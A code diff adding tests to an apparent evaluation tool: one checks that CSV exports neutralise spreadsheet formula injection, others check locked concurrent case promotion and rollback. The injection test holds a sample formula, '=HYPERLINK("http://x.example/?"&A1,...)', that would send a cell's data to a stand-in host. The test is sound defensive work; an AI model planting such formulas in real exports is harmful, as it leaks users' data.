@@ -180,3 +180,53 @@ def test_a_stored_run_is_a_source_and_its_sessions_promote(tmp_path):
     assert convs and all(c.messages and c.week for c in convs)
     case_id = promote_conversation(convs[0], tmp_path / "regression.jsonl")
     assert [c.id for c in load_cases(tmp_path / "regression.jsonl")] == [case_id]
+
+
+def test_a_note_that_reads_as_a_formula_is_text_in_the_spreadsheet(tmp_path, convs):
+    """A note, an author or a category starting "=", "+", "-" or "@" ran as a formula when the export was opened
+    in a spreadsheet ("=HYPERLINK(...)" sends the sheet's cells away)."""
+    store = ReviewStore(tmp_path)
+    store.add_note(convs[0], '=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", category="+cmd")
+    rows = list(csv.reader(io.StringIO(weekly_csv(week_review(store, convs, "2026-W10", "s.jsonl"), "en"))))
+    noted = next(r for r in rows if "HYPERLINK" in "".join(r))
+    assert [c for c in noted if c[:1] in ("=", "+", "-", "@")] == []
+    assert "'=HYPERLINK" in "".join(noted) and "'@SUM(1+1)" in noted and "'+cmd" in noted
+
+
+PROMOTE_FROM_ANOTHER_PROCESS = """
+import sys
+from agentlab.evals.weekly import conversations_of_logs, promote_conversation
+from agentlab.resources import data_file
+convs = conversations_of_logs(data_file("logs_openai_sample.jsonl"))
+for _ in range(5):
+    promote_conversation(convs[0], sys.argv[1])
+"""
+
+
+def test_two_reviewers_promoting_at_once_each_get_their_case(tmp_path, convs):
+    """Two reviewers promoting at the same moment chose the same id (and the suite no longer loaded), and the one
+    whose check failed put back an old copy of the file, erasing the other's case. Now the choice and the append
+    are one step under a lock: ten promotions from two processes make ten cases with ten ids."""
+    suite = tmp_path / "regression.jsonl"
+    env = {"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"}
+    procs = [subprocess.Popen([sys.executable, "-c", PROMOTE_FROM_ANOTHER_PROCESS, str(suite)], env=env)
+             for _ in range(2)]
+    assert [p.wait(120) for p in procs] == [0, 0]
+    ids = [c.id for c in load_cases(suite)]
+    assert len(ids) == 10 and len(set(ids)) == 10
+
+
+def test_a_promotion_the_suite_refuses_leaves_the_file_as_it_was(tmp_path, convs, monkeypatch):
+    import agentlab.evals.weekly as weekly
+    suite = tmp_path / "regression.jsonl"
+    kept = promote_conversation(convs[0], suite)
+    before = suite.read_bytes()
+
+    def refuse(path):
+        if path == suite and suite.read_bytes() != before:
+            raise ValueError("refused")
+        return load_cases(path)
+    monkeypatch.setattr(weekly, "load_cases", refuse)
+    with pytest.raises(ValueError):
+        promote_conversation(convs[0], suite)
+    assert suite.read_bytes() == before and [c.id for c in load_cases(suite)] == [kept]
